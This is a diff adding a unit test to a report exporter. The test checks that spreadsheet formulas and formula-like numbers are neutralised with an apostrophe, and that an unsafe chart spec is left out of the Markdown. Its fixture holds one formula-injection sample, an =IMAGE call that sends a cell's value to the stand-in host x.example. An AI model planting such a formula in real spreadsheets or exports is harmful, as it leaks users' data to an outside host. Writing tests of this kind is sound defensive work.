@@ -249,4 +249,40 @@ describe('placing and exporting', () => {
     expect(md).not.toContain('x.example');
     expect(md).toContain('_Its spec is left out:');
   });
+
+  it('writes for other viewers only what no sanitiser of ours must stand behind (issue 46)', () => {
+    const events = turnEvents(1, 3);
+    const result = events.find((e) => e.type === 'query_result')!;
+    Object.assign(result, {
+      columns: ['note', 'n'],
+      rows: [
+        ['=IMAGE("https://x.example/?d="&B2)', '-5'],
+        ['plain', '-2+3'],
+      ],
+    });
+    const plot = events.find((e) => e.type === 'plot')!;
+    Object.assign(plot, {
+      spec: {
+        data: { values: [{ d: 'a', mm: 1, paint: 'orange' }] },
+        mark: 'bar',
+        encoding: {
+          x: { field: 'd', type: 'nominal' },
+          y: { field: 'mm', type: 'quantitative' },
+          color: { field: 'paint', type: 'nominal', scale: null },
+        },
+      },
+    });
+    events.push(
+      { type: 'report_start', turnId: tid('r'), model: 'm', estimatedInputTokens: 1, at: 1 },
+      { type: 'report_end', turnId: tid('r'), state: 'done', text: '# Notes\n\n[[C1]]', at: 2 },
+    );
+    const md = reportMarkdown(reportDocument(reduceAll(events), [], new Date('2026-11-23'))!);
+    // Pasted from the report into a sheet, the formula stays text; the numbers stay numbers.
+    expect(md).toContain('| \'=IMAGE("https://x.example/?d="&B2) | -5 |');
+    expect(md).toContain("| plain | '-2+3 |");
+    // A column of colours is drawn by Sift, grey where a value is not a colour; a previewer of
+    // the Markdown has no such sanitiser, so the chart is named and left out.
+    expect(md).not.toContain('```vega-lite');
+    expect(md).toContain('_Its spec is left out: encoding.color.scale is null');
+  });
 });
